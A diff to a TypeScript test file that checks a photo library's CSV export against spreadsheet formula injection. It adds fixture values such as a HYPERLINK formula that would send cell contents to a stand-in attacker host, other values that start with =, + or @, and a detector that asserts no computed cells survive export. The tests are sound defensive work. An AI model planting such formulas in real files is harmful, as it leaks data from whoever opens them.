@@ -1,5 +1,6 @@
 import { readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
+import { parse } from 'csv-parse/sync'
 import { expect, test } from 'vitest'
 import type { LibraryExportRequest } from '../../../src-main/contract/library/travel.ts'
 import type { PersonChange } from '../../../src-main/core/catalog/catalog.ts'
@@ -27,11 +28,11 @@ const given: Record<string, Work[]> = {
     {
       kind: 'fields',
       values: {
-        headline: 'Früh, "am" Morgen',
-        altText: 'a <lake>',
+        headline: '=HYPERLINK("https://evil.example/?"&A1)',
+        altText: "'=a <lake>",
         creatorEmail: 'zoe@example.org',
         copyrightStatus: 'public-domain',
-        usageTerms: 'ask\nme',
+        usageTerms: 'ask\n+me;\t =1+1',
         city: 'Wien',
         countryCode: 'AT',
       },
@@ -42,6 +43,7 @@ const given: Record<string, Work[]> = {
     { kind: 'add-tag', name: 'Music/AC\\DC' },
     { kind: 'add-tag', name: 'semi; colon, comma "quote"' },
     { kind: 'add-tag', name: 'wine & cheese <3' },
+    ...['=1+1', "'=quoted", '-dash', 'a;=1+1', '@home'].map((name) => ({ kind: 'add-tag' as const, name })),
   ],
   'rejected.jpg': [{ kind: 'pick', pick: -1 }],
   'rejected with stars.jpg': [
@@ -116,6 +118,14 @@ function openLibrary() {
   return { ...library, ids, shownOf, apply }
 }
 
+/** Cells that a spreadsheet would compute, whichever letter it takes for the separator; numbers are none. */
+function formulasIn(table: string): string[] {
+  const text = readFileSync(table, 'utf8')
+  const naive = [';', '\t'].flatMap((separator) => text.split(/\r?\n/).flatMap((line) => line.split(separator)))
+  const cells = [...(parse(text, { bom: true }) as string[][]).flat(), ...naive]
+  return cells.filter((cell) => /^\s*[=+@＝＋＠－-]/.test(cell) && !/^[-+]?[\d.,:-]+$/.test(cell))
+}
+
 test.each(['xmp', 'csv', 'json'] as const)(
   'a library that is exported as %s and imported over the same photos has all its work again',
   async (format) => {
@@ -137,6 +147,7 @@ test.each(['xmp', 'csv', 'json'] as const)(
         : [],
     )
 
+    if (format === 'csv') expect(formulasIn(path)).toEqual([])
     const second = openLibrary()
     expect(second.shownOf()).not.toEqual(first.shownOf())
     const report = await second.run(path)
